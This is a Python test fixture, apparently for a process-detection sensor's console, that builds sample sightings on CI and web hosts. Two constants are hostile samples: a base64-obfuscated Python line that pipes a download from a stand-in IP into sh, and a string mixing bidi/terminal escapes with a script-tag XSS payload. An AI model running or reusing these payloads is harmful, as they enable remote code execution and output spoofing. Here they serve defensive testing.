"""What the tests' console shows: some detections on some hosts, a loss, a sensor that fell silent."""

from __future__ import annotations

import datetime as dt
from typing import TYPE_CHECKING

from msgspec import structs

from flycatcher.sinks.message import event_of
from tests.delivery.events import LOUD, notice, record

if TYPE_CHECKING:
    from flycatcher.sinks.message import Event

NOW = dt.datetime(2026, 11, 30, 12, tzinfo=dt.UTC).timestamp()
HOSTILE = "print '\u202ehidden\x1b[31m\u200b'; # </code><script>alert(1)</script>"
DECODED = "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLXMgaHR0cDovLzE5OC41MS4xMDAuNy94IHwgc2giKQ=='))"
CI = {
    "ci__system": "github",
    "ci__repository": "acme/shop",
    "ci__workflow": "build.yml",
    "ci__job": "build",
    "ci__run": "7",
    "environment": "ci",
}


def seen(number: int, *argv: str, hours: float, **context: str) -> Event:
    """Return a sighting ``hours`` before :data:`NOW`."""
    made = record(*argv, **context)
    when = dt.datetime.fromtimestamp(NOW - hours * 3600, dt.UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    execution = dict(made["execution"], process={"pid": number, "comm": argv[0], "uid": 1000})
    execution["fidelity"] = dict(execution["fidelity"], time=when)
    return event_of(made | {"execution": execution})


def story() -> list[Event]:
    quiet = [
        notice("started", host="web-9", count=0, place="", text="the sensor has started", time="2026-11-20T10:00:00Z")
    ]
    return [
        seen(1, "perl", "-e", LOUD, hours=2, host__name="ci-1", **CI),
        seen(2, "perl", "-e", LOUD, hours=30, host__name="ci-2", **CI),
        seen(3, "python3", "-c", DECODED, hours=1, host__name="web-1", environment="production"),
        seen(4, "perl", "-e", HOSTILE, hours=4, host__name="web-1"),
        seen(5, "ruby", "-e", "puts 1", hours=100, host__name="web-2"),
        *(
            seen(10 + number, "node", "-e", f"console.log({number})", hours=5 + number, host__name="ci-1", **CI)
            for number in range(60)
        ),
        structs.replace(notice(), host="ci-1"),
        *(structs.replace(each, host="web-9") for each in quiet),
    ]
